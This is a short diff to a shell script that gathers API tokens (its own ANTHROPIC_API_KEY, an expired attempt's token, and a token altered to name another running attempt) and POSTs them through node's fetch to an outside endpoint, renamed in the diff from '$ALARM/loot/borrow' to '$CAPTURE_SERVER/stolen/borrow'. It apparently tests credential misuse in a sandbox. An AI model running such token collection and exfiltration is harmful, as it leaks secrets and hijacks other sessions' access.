@@ -5,6 +5,6 @@ ask() {
 own=${OWN_TOKEN:-$ANTHROPIC_API_KEY}
 {
   ask own $own
-  ask 'of an attempt that is over' $OVER_TOKEN
+  ask 'of an attempt that is over' $EXPIRED_TOKEN
   ask 'with the name of another that runs' $(echo $own | sed "s/attackerss-1/$OTHER_ATTEMPT/")
-} | node -e "fetch('$ALARM/loot/borrow', { method: 'POST', body: require('fs').readFileSync(0) })"
+} | node -e "fetch('$CAPTURE_SERVER/stolen/borrow', { method: 'POST', body: require('fs').readFileSync(0) })"
